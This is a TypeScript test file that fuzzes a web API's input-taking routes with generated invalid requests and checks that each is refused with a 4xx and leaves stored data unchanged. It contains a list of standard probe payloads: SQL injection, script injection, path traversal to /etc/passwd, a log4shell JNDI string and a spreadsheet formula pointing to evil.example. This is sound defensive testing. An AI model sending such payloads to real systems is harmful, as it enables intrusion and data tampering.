/**
 * Bad input (issue 7, part 2): every call that takes input is fed at least 1,000 generated invalid requests — wrong
 * types, missing fields, huge strings, deep nesting, odd Unicode, SQL and HTML injection riding along, malformed
 * JSON, wrong content types, invalid ids and query values, broken and oversized uploads. Payloads come from the
 * route's own valid request (route-cases.ts) mutated by fast-check with a fixed seed, and only those that the
 * contract's zod schema rejects are sent, so every one of them must be refused: a 4xx with a message, never a 5xx,
 * and nothing already stored may change (a fingerprint of every table before and after each route).
 */
import { type RouteDef, routeList } from '@argo/contract';
import { sql } from 'drizzle-orm';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../app';
import { multipart } from '../workers';
import { CASES, type Request } from './route-cases';
import { CALLERS, type Caller, createWorld, tokenOf } from './route-world';

const PER_ROUTE = 1_000;
const SEED = 20261121;

let t: TestApp;

beforeAll(async () => {
  t = await createTestApp({ RATE_LIMIT_PER_MINUTE: '10000000' });
  await createWorld(t);
}, 120_000);
afterAll(() => t?.close());

// ------------------------------------------------------------------ hostile values

const deep = (depth: number): unknown => {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i++) value = i % 2 ? [value] : { a: value };
  return value;
};
const HOSTILE_STRINGS = [
  "' OR '1'='1' --",
  "'; DROP TABLE businesses; --",
  '"); select pg_sleep(5); --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '[x](javascript:alert(1))',
  '=HYPERLINK("http://evil.example")',
  '\u0000',
  '\ud800',
  '\u202e\u0645\u0631\u062d\u0628\u0627',
  '\u200b\u200c\u200d\ufeff',
  'Z̷̡̛̤a̸̢̛l̶̨̛g̵̡̛ơ̷̧',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  '../../../../etc/passwd',
  '%00%2e%2e%2f',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, on purpose
  '${jndi:ldap://x}',
  '{{7*7}}',
  '__proto__',
  'constructor',
];
const hugeString = fc.integer({ min: 10_000, max: 200_000 }).map((n) => 'x'.repeat(n));
const hostileString = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.string({ unit: 'binary', maxLength: 50 }),
);
const badValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.anything({ maxDepth: 2, withNullPrototype: true, withBigInt: false }),
  hostileString,
  hugeString,
  fc.integer({ min: 50, max: 3_000 }).map(deep),
  fc.constantFrom(null, true, false, -1, 0, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 1.5, [], {}),
);

/** Every key path of a JSON value (objects and arrays), for picking what to break. */
function keyPaths(value: unknown, prefix: (string | number)[] = [], out: (string | number)[][] = []) {
  if (value && typeof value === 'object') {
    for (const [key, child] of Object.entries(value)) {
      const path = [...prefix, Array.isArray(value) ? Number(key) : key];
      out.push(path);
      keyPaths(child, path, out);
    }
  }
  return out;
}

function setPath(root: unknown, path: (string | number)[], value: unknown, remove = false): unknown {
  if (path.length === 0) return value;
  const copy = (Array.isArray(root) ? [...root] : { ...(root as Record<string, unknown>) }) as Record<
    string | number,
    unknown
  >;
  const [head, ...rest] = path as [string | number, ...(string | number)[]];
  if (rest.length === 0) {
    if (remove) delete copy[head];
    else copy[head] = value;
  } else {
    copy[head] = setPath(copy[head], rest, value, remove);
  }
  return copy;
}

/** What one generated request is: a JSON body, a raw body with a content type, or a changed path or query. */
interface Attempt {
  kind: string;
  path: string;
  query?: Record<string, string>;
  body?: unknown;
  headers?: Record<string, string>;
}

function jsonBodyAttempts(route: RouteDef, base: Request): fc.Arbitrary<Attempt> {
  const paths = keyPaths(base.body);
  const schema = route.body as NonNullable<RouteDef['body']>;
  const asJson = (body: unknown, kind: string): Attempt => ({
    kind,
    path: base.path,
    body,
    query: base.query,
  });
  const mutateOnce = paths.length
    ? fc
        .tuple(fc.constantFrom(...paths), badValue, fc.boolean())
        .map(([at, value, remove]) => ({ at, value, remove }))
    : fc.constant(null);
  const mutated = fc.array(mutateOnce, { minLength: 1, maxLength: 3 }).map((changes) => {
    let body = base.body;
    for (const change of changes) if (change) body = setPath(body, change.at, change.value, change.remove);
    return asJson(body, 'mutated body');
  });
  const wholeBody = badValue.map((body) => asJson(body, 'body of the wrong kind'));
  const text = JSON.stringify(base.body ?? {});
  const malformed = fc
    .oneof(
      fc.integer({ min: 1, max: Math.max(1, text.length - 1) }).map((cut) => text.slice(0, cut)),
      fc.constantFrom(
        '{',
        '{"a":}',
        "{'a': 1}",
        '{a:1}',
        '[1,]',
        'nul',
        '\u0000',
        '{"a":1}}',
        '{"__proto__":{"x":1}',
      ),
    )
    .map((raw) => ({
      kind: 'malformed JSON',
      path: base.path,
      body: raw,
      headers: { 'content-type': 'application/json' },
    }));
  const wrongType = fc
    .constantFrom('text/plain', 'application/xml', 'application/x-www-form-urlencoded', 'image/png')
    .map((type) => ({
      kind: 'wrong content type',
      path: base.path,
      body: type === 'application/x-www-form-urlencoded' ? 'name=x&a=1' : text,
      headers: { 'content-type': type },
    }));
  return (
    fc
      .oneof(
        { weight: 6, arbitrary: mutated },
        { weight: 2, arbitrary: wholeBody },
        { weight: 1, arbitrary: malformed },
        { weight: 1, arbitrary: wrongType },
      )
      // Judge what travels: JSON drops `undefined` and turns NaN into null.
      .map((attempt) =>
        typeof attempt.body === 'string' || attempt.body === undefined
          ? attempt
          : { ...attempt, body: JSON.parse(JSON.stringify(attempt.body) ?? 'null') },
      )
      .filter((attempt) => typeof attempt.body === 'string' || !schema.safeParse(attempt.body).success)
  );
}

function paramAttempts(route: RouteDef, base: Request): fc.Arbitrary<Attempt> | null {
  if (!route.params) return null;
  const ids = base.path.match(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/g);
  if (!ids?.length) return null;
  const badId = fc.oneof(
    hostileString,
    fc.string({ minLength: 1, maxLength: 40 }),
    fc.constantFrom(
      '0',
      '-1',
      'null',
      'undefined',
      '00000000-0000-0000-0000-00000000000g',
      'x'.repeat(5_000),
    ),
  );
  const encode = (id: string) => {
    try {
      return encodeURIComponent(id);
    } catch {
      return ''; // a lone surrogate cannot travel in a URL at all
    }
  };
  return badId
    .map(encode)
    .filter(
      (id) => id.length > 0 && !(route.params as NonNullable<RouteDef['params']>).safeParse({ id }).success,
    )
    .map((id) => ({
      kind: 'invalid id',
      path: base.path.replace(ids[0] as string, id),
      query: base.query,
      body: base.body,
      headers: base.headers,
    }));
}

function queryAttempts(route: RouteDef, base: Request): fc.Arbitrary<Attempt> | null {
  if (!route.query) return null;
  const schema = route.query as NonNullable<RouteDef['query']>;
  const shape = (schema as unknown as { shape?: Record<string, unknown> }).shape;
  const keys = Object.keys(shape ?? {});
  if (!keys.length) return null;
  const value = fc.oneof(
    hostileString,
    hugeString,
    fc.constantFrom('-1', '1e9', 'NaN', 'Infinity', '0x10', '1.5', '', '{', '{"nope":1}', '[]', 'true'),
  );
  return fc
    .dictionary(fc.constantFrom(...keys), value, { minKeys: 1, maxKeys: 3 })
    .map((changes) => ({ ...(base.query ?? {}), ...changes }))
    .filter((query) => !schema.safeParse(query).success)
    .map((query) => ({
      kind: 'invalid query',
      path: base.path,
      query,
      body: base.body,
      headers: base.headers,
    }));
}

function uploadAttempts(base: Request): fc.Arbitrary<Attempt> {
  const part = (data: Buffer | string, fields: Record<string, string> = {}, field = 'file') => {
    const form = multipart(fields, { field, name: 'upload.csv', data });
    return { path: base.path, body: form.body, headers: form.headers };
  };
  return fc.oneof(
    fc.constant({
      kind: 'no file',
      ...(() => {
        const form = multipart({ name: 'x' }, null);
        return { path: base.path, body: form.body, headers: form.headers };
      })(),
    }),
    fc.constant({ kind: 'empty file', ...part('') }),
    fc.uint8Array({ minLength: 1, maxLength: 2_000 }).map((bytes) => ({
      kind: 'binary file',
      ...part(Buffer.concat([Buffer.from([0, 0xff, 0xfe, 0]), Buffer.from(bytes)])),
    })),
    fc.constant({ kind: 'header only', ...part('name,website\n') }),
    hostileString.map((name) => ({
      kind: 'wrong field name',
      ...part('name\nA\n', {}, name.slice(0, 20) || 'f'),
    })),
    badValue
      // A blank form field means "not given" (no venture), which is allowed.
      .filter((venture) => !(typeof venture === 'string' && venture.trim() === ''))
      .map((venture) => ({
        kind: 'invalid venture id',
        ...part('name\nA\n', {
          venture_id:
            typeof venture === 'string'
              ? venture.slice(0, 200)
              : (JSON.stringify(venture)?.slice(0, 200) ?? 'x'),
        }),
      })),
    fc.constantFrom('application/json', 'text/plain', 'multipart/form-data').map((type) => ({
      kind: 'not multipart',
      path: base.path,
      body: '{"name":"x"}',
      headers: { 'content-type': type },
    })),
  ) as fc.Arbitrary<Attempt>;
}

/** Columns every authenticated request may touch (when the user was last seen), left out of the fingerprint. */
const TOUCHED_BY_EVERY_REQUEST: Record<string, string[]> = { users: ['last_seen_at'] };

/** Each table's row count and a hash of its rows: equal before and after means nothing stored changed. */
async function fingerprint(): Promise<Record<string, string>> {
  const tables = await t.database.db.execute<{ table_name: string }>(sql`
    select table_name from information_schema.tables
    where table_schema = current_schema() and table_type = 'BASE TABLE' order by table_name`);
  const out: Record<string, string> = {};
  for (const { table_name } of tables.rows) {
    const row = await t.database.db.execute<{ n: string; h: string | null }>(
      sql.raw(
        `select count(*)::text as n, md5(string_agg(md5(r::text), '' order by md5(r::text))) as h
         from (select to_jsonb(x) ${(TOUCHED_BY_EVERY_REQUEST[table_name] ?? []).map((c) => `- '${c}'`).join(' ')} as r
               from "${table_name}" x) y`,
      ),
    );
    out[table_name] = `${row.rows[0]?.n}:${row.rows[0]?.h}`;
  }
  return out;
}

const takesInput = (route: RouteDef) =>
  Boolean(route.body || route.query || route.params || route.bodyType === 'multipart');

/** The first caller the route's policy allows, so that the answers are about the input and not the caller. */
function allowedCaller(routeId: string): Caller {
  const policy = CASES[routeId]?.policy;
  return CALLERS.find((caller) => caller !== 'none' && policy?.[caller] === 'ok') ?? 'member';
}

describe('bad input', () => {
  const routes = routeList.filter(takesInput);

  it('covers every call that takes input', () => {
    expect(routes.length).toBeGreaterThan(30);
  });

  let tried = 0;
  for (const route of routes) {
    it(`${route.method} ${route.path}: ${PER_ROUTE}+ invalid requests, each a 4xx with a message, nothing changed`, async () => {
      const entry = CASES[route.id];
      if (!entry) throw new Error(`no route case for ${route.id}`);
      const caller = allowedCaller(route.id);
      const base = await entry.request(caller);
      const sources = [
        route.bodyType === 'multipart'
          ? uploadAttempts(base)
          : route.body
            ? jsonBodyAttempts(route, base)
            : null,
        paramAttempts(route, base),
        queryAttempts(route, base),
      ].filter((source): source is fc.Arbitrary<Attempt> => source !== null);
      const attempts = fc.sample(fc.oneof(...sources), { numRuns: PER_ROUTE, seed: SEED });
      // Oversized bodies, once per route: past the server's body limit (the upload's own cap for the import).
      const big = route.bodyType === 'multipart' ? 21 * 1024 * 1024 : 2 * 1024 * 1024;
      if (route.body || route.bodyType === 'multipart') {
        const blob = 'a'.repeat(big);
        attempts.push(
          route.bodyType === 'multipart'
            ? {
                kind: 'oversized upload',
                ...(() => {
                  const form = multipart({}, { name: 'big.csv', data: `name\n${blob}\n` });
                  return { path: base.path, body: form.body, headers: form.headers };
                })(),
              }
            : {
                kind: 'oversized body',
                path: base.path,
                body: JSON.stringify({ name: blob }),
                headers: { 'content-type': 'application/json' },
              },
        );
      }

      const before = await fingerprint();
      const wrong: string[] = [];
      const token = tokenOf(caller);
      for (let i = 0; i < attempts.length; i += 8) {
        const answers = await Promise.all(
          attempts.slice(i, i + 8).map(async (attempt) => {
            const answer = await t.call(route.method, `/api${attempt.path}`, {
              token,
              body: attempt.body,
              query: attempt.query,
              headers: attempt.headers,
            });
            return { attempt, answer };
          }),
        );
        for (const { attempt, answer } of answers) {
          const message = answer.body?.error?.message;
          if (answer.status < 400 || answer.status >= 500 || !message) {
            wrong.push(
              `${attempt.kind}: ${answer.status} ${JSON.stringify(answer.body).slice(0, 160)} for ${JSON.stringify(attempt.body ?? attempt.query ?? attempt.path).slice(0, 160)}`,
            );
          }
        }
      }
      tried += attempts.length;
      expect(attempts.length).toBeGreaterThanOrEqual(PER_ROUTE);
      expect(wrong.slice(0, 10), `${wrong.length} of ${attempts.length} answered wrongly`).toEqual([]);
      expect(await fingerprint()).toEqual(before);
    }, 300_000);
  }

  // Hostile text that a schema may well accept (a session named "<script>…", a search for "' OR 1=1"): whatever the
  // answer, it is never a 5xx.
  for (const route of routes.filter((r) => r.body && r.bodyType !== 'multipart')) {
    it(`${route.method} ${route.path}: hostile text in every text field never causes a 5xx`, async () => {
      const entry = CASES[route.id];
      if (!entry) throw new Error(`no route case for ${route.id}`);
      const caller = allowedCaller(route.id);
      const base = await entry.request(caller);
      const textPaths = keyPaths(base.body).filter((at) => {
        let value: unknown = base.body;
        for (const key of at) value = (value as Record<string | number, unknown>)[key];
        return typeof value === 'string';
      });
      const failures: string[] = [];
      for (const at of textPaths) {
        for (const hostile of HOSTILE_STRINGS) {
          const answer = await t.call(route.method, `/api${base.path}`, {
            token: tokenOf(caller),
            body: setPath(base.body, at, hostile),
            query: base.query,
          });
          tried += 1;
          if (answer.status >= 500)
            failures.push(`${at.join('.')}=${JSON.stringify(hostile)}: ${answer.status}`);
        }
      }
      expect(failures).toEqual([]);
    }, 120_000);
  }

  afterAll(() => {
    console.info(`[bad input] ${tried} invalid requests over ${routes.length} calls`);
  });
});
